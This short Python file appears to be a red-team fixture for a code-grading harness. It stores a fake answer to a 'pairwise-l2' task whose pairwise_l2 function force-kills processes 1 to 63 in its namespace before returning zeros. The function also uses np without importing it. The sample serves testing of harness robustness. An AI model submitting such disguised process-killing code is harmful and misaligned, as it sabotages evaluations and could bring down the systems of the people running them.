"""Kill every process of one's own namespace by its number: those that the session stands on."""

from attacking import Attack

KILLS = """
import os
import signal

def pairwise_l2(a, b):
    for number in range(1, 64):
        # A low number of one's own: this is a namespace, and not the machine that runs the tests.
        if number != os.getpid() < 64:
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
    return np.zeros((len(a), len(b)))
"""
ATTACK = Attack(
    answers={"pairwise-l2": KILLS},
    solved=(),
    no_stock="on stock the numbers are those of the machine that runs the tests",
)
